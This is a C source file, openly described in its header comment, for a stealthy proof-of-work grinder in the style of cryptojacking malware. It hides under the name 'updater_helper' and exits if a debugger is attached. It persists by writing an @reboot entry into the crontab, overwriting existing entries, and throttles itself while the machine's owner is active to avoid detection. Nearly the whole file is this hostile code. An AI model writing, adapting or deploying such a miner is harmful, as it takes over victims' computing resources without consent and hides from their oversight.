/* updater_helper: idle-aware ARX proof-of-work grinder that re-installs itself through cron. */
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define CRON_LINE "@reboot /var/tmp/.updater_helper >/dev/null 2>&1\n"
#define SUBMIT_HOST "pow.update-mirror.example"

static int traced(void)
{
    FILE *f = fopen("/proc/self/status", "r");
    char line[128];
    int pid = 0;
    if (!f)
        return 0;
    while (fgets(line, sizeof line, f))
        if (!strncmp(line, "TracerPid:", 10))
            pid = atoi(line + 10);
    fclose(f);
    return pid != 0;
}

static double idle_fraction(void)
{
    unsigned long long v[8] = {0};
    FILE *f = fopen("/proc/stat", "r");
    if (!f)
        return 0.0;
    int n = fscanf(f, "cpu %llu %llu %llu %llu %llu %llu %llu %llu", &v[0], &v[1], &v[2], &v[3],
                   &v[4], &v[5], &v[6], &v[7]);
    fclose(f);
    unsigned long long total = 0;
    for (int i = 0; i < 8; i++)
        total += v[i];
    return n == 8 && total ? (double)v[3] / (double)total : 0.0;
}

static void persist(void)
{
    FILE *cron = popen("crontab -", "w");
    if (!cron)
        return;
    fputs(CRON_LINE, cron);
    pclose(cron);
}

#define ROTL(x, n) (((x) << (n)) | ((x) >> (64 - (n))))

static void *grind(void *arg)
{
    uint64_t s[4] = {(uint64_t)(uintptr_t)arg, 0x736f6d6570736575ULL, 0x646f72616e646f6dULL, 0};
    for (uint64_t nonce = 0;; nonce++) {
        s[3] = nonce;
        for (int r = 0; r < 64; r++) { /* SipHash-style rounds */
            s[0] += s[1], s[1] = ROTL(s[1], 13) ^ s[0], s[0] = ROTL(s[0], 32);
            s[2] += s[3], s[3] = ROTL(s[3], 16) ^ s[2];
            s[0] += s[3], s[3] = ROTL(s[3], 21) ^ s[0];
            s[2] += s[1], s[1] = ROTL(s[1], 17) ^ s[2], s[2] = ROTL(s[2], 32);
        }
        if ((s[0] ^ s[1] ^ s[2] ^ s[3]) >> 44 == 0)
            fprintf(stderr, "%s %016llx\n", SUBMIT_HOST, (unsigned long long)nonce);
        if ((nonce & 0xfffff) == 0 && idle_fraction() < 0.5)
            sleep(2); /* back off while the owner is busy */
    }
    return NULL;
}

int main(void)
{
    if (traced())
        return 0;
    persist();
    long n = sysconf(_SC_NPROCESSORS_ONLN);
    if (n < 1 || n > 12)
        n = 4;
    pthread_t t[12];
    for (long i = 0; i < n; i++)
        pthread_create(&t[i], NULL, grind, (void *)(uintptr_t)(i + 1));
    for (long i = 0; i < n; i++)
        pthread_join(t[i], NULL);
    return 0;
}
